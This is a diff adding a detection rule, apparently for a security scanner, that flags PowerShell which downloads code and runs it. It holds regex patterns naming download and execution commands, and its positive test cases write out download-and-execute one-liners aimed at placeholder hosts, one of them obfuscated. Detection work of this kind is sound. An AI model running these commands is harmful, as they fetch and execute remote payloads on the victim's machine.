@@ -1,0 +1,29 @@
+import { defineRule, perPsScript } from './rule.js';
+import { urlsIn } from './match.js';
+
+const DOWNLOAD = /downloadstring|downloadfile|downloaddata|openread\(|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|net\.webclient|start-bitstransfer|msxml2\.(server)?xmlhttp|winhttp\.winhttprequest|\bnet\.http\.httpclient|\bwget\b|\bcurl\b/;
+const EXECUTE = /invoke-expression|\biex\b|\|\s*iex|scriptblock\]::create|invokescript|\.invoke\(\)|&\s*\(|\.\s*\(\s*\[scriptblock|start-process|invoke-item|\bsaps\b|\bstart\s+[^-]|rundll32|regsvr32|reflection\.assembly\]::load|\bmshta\b|&\s*\$|\.\s+\$env|& ['"][^'"]*\.(exe|bat|cmd|ps1)/;
+
+export const rule = defineRule({
+  id: 'ps_download_execute',
+  category: 'download_execute',
+  severity: 'critical',
+  title: 'PowerShell downloads code and runs it (IEX (New-Object Net.WebClient).DownloadString, iwr | iex)',
+  check: perPsScript((t) => {
+    if (!DOWNLOAD.test(t) || !EXECUTE.test(t)) return undefined;
+    const url = urlsIn(t)[0];
+    return `downloads ${url ?? 'content from the network'} and runs it in PowerShell`;
+  }),
+  cases: {
+    positive: [
+      ['powershell', "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"],
+      ['powershell', 'iwr https://evil.example/x.ps1 -UseBasicParsing | iex'],
+      ['powershell', "I`E`X (New-Object Net.WebClient).DownloadString('h'+'ttp://x.example/p')"],
+      ['powershell', "(New-Object System.Net.WebClient).DownloadFile('http://x.example/a.exe',\"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\""],
+    ],
+    negative: [
+      ['powershell', 'Invoke-WebRequest https://example.com/file.zip -OutFile file.zip; Expand-Archive file.zip'],
+      ['powershell', 'Get-ChildItem -Recurse | Where-Object Length -gt 1MB'],
+    ],
+  },
+});
